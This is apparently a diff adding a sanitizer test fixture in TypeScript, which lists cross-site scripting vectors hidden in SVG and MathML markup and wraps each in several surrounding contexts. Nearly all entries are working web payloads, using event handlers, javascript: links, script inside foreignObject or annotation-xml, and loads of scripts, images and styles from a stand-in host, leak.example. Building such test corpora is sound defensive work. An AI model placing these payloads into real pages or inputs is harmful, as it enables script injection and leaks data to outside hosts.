@@ -1,0 +1,53 @@
+/** SVG and MathML: other rules, other element names, other ways to run. */
+const svg = [
+  '<svg onload=alert(1)>',
+  '<svg/onload=alert(1)//',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
+  '<svg><script xlink:href="https://leak.example/a.js"></script></svg>',
+  '<svg><script>alert&#40;1&#41;</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
+  '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>x</text></a></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
+  '<svg><set attributeName=onmouseover to=alert(1)></svg>',
+  '<svg><set href=#x attributeName=href to="javascript:alert(1)"></svg>',
+  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg==#x"/></svg>',
+  '<svg><use href="https://leak.example/a.svg#x"/></svg>',
+  '<svg><image href="https://leak.example/a.png" onerror=alert(1)></svg>',
+  '<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload=alert(1)></foreignObject></svg>',
+  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
+  '<svg><foreignObject><p>x</p><script>alert(1)</script></foreignObject></svg>',
+  '<svg><style>*{background:url(https://leak.example/)}</style></svg>',
+  '<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>',
+  '<svg><style>@import "https://leak.example/a.css";</style></svg>',
+  '<svg><handler type=text/javascript>alert(1)</handler></svg>',
+  '<svg><discard onbegin=alert(1)></svg>',
+  '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
+  '<svg><title><img src=x onerror=alert(1)></title></svg>',
+  '<svg><p onclick=alert(1)>x</p></svg>',
+  '<svg><table><tr><td onclick=alert(1)>x</td></tr></table></svg>',
+  '<svg id=x width=1 height=1><rect fill="url(https://leak.example/#a)"/></svg>',
+  '<svg><filter id=f><feImage href="https://leak.example/a.png"/></filter></svg>',
+  '<svg xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:alert(1)">x</a></svg>',
+  '<svg:script>alert(1)</svg:script>',
+  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
+];
+const math = [
+  '<math href="javascript:alert(1)">x</math>',
+  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+  '<math><maction actiontype="statusline#javascript:alert(1)">x<mtext>y</mtext></maction></math>',
+  '<math><annotation-xml encoding="application/xhtml+xml"><script>alert(1)</script></annotation-xml></math>',
+  '<math><semantics><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></semantics></math>',
+  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
+  '<math><mglyph src="https://leak.example/a.png"></mglyph></math>',
+  '<math><malignmark><img src=x onerror=alert(1)></malignmark></math>',
+  '<math><a href="javascript:alert(1)">x</a></math>',
+  '<math><mi><svg><script>alert(1)</script></svg></mi></math>',
+  '<math><style><img src=x onerror=alert(1)></style></math>',
+  '<math><xmp><img src=x onerror=alert(1)></xmp></math>',
+  '<math><mi style="background:url(https://leak.example/)">x</mi></math>',
+];
+
+const inside = (vector: string): string[] => [vector, `text ${vector} text`, `<p><b>${vector}</b></p>`];
+
+export const foreignVectors: readonly string[] = [...svg, ...math].flatMap(inside);
